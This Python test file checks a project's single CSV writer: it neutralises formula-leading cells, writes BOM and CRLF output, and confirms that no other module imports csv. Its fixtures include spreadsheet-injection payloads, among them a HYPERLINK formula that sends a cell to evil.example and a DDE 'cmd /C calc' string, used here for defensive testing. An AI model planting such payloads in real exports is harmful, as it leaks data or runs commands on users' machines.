"""core.spreadsheet: the one CSV writer, and the rule that every export goes through it."""

from __future__ import annotations

import ast
import datetime as dt
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from core.spreadsheet import cell, to_csv

ROOT = Path(__file__).resolve().parent.parent.parent
WRITER = ROOT / "core" / "spreadsheet.py"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?d="&C2,"Open")',
            '\'=HYPERLINK("http://evil.example/?d="&C2,"Open")',
        ),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a = b", "a = b"),
        ("عين الحقيقة", "عين الحقيقة"),
        (None, ""),
        (-3, "-3"),
        (2.5, "2.5"),
        (Decimal("-1.50"), "-1.50"),
        (dt.date(2026, 3, 1), "2026-03-01"),
        (dt.datetime(2026, 3, 1, 7, 0, tzinfo=dt.UTC), "2026-03-01T07:00:00+00:00"),
        (
            dt.datetime(2026, 3, 1, 10, 0, tzinfo=ZoneInfo("Asia/Riyadh")),
            "2026-03-01T10:00:00+03:00",
        ),
        (dt.datetime(2026, 3, 1, 7, 0, 30, 999), "2026-03-01T07:00:30+00:00"),
    ],
)
def test_a_cell_is_text_a_spreadsheet_will_not_run(value, written):
    assert cell(value) == written


def test_a_file_has_a_bom_crlf_rows_and_quotes_where_needed():
    data = to_csv(["Name", "When"], [["=1", dt.date(2026, 1, 2)], ['say "hi", ok', None]])
    assert data == ('\ufeffName,When\r\n\'=1,2026-01-02\r\n"say ""hi"", ok",\r\n').encode()


def _imports_csv(path: Path) -> bool:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    for node in ast.walk(tree):
        if isinstance(node, ast.Import) and any(a.name == "csv" for a in node.names):
            return True
        if isinstance(node, ast.ImportFrom) and node.module == "csv":
            return True
    return False


# The award's results bundle is not a spreadsheet but a record that `python -m awards.recount`
# reads back with the standard library alone (no formula prefix may change a byte of it); its
# two pure modules are the only other readers and writers of CSV.
BUNDLE_MODULES = {Path("awards/bundle.py"), Path("awards/recount.py")}


def test_every_export_goes_through_the_one_writer():
    """Only core.spreadsheet writes CSV for people: no other module of the project imports
    `csv`, but the results bundle's pure modules."""
    modules = [
        path
        for path in ROOT.rglob("*.py")
        if not {".venv", "tests", "bench", "migrations"} & set(path.relative_to(ROOT).parts)
    ]
    assert WRITER in modules and len(modules) > 50
    found = {p.relative_to(ROOT) for p in modules if _imports_csv(p) and p != WRITER}
    assert found == BUNDLE_MODULES
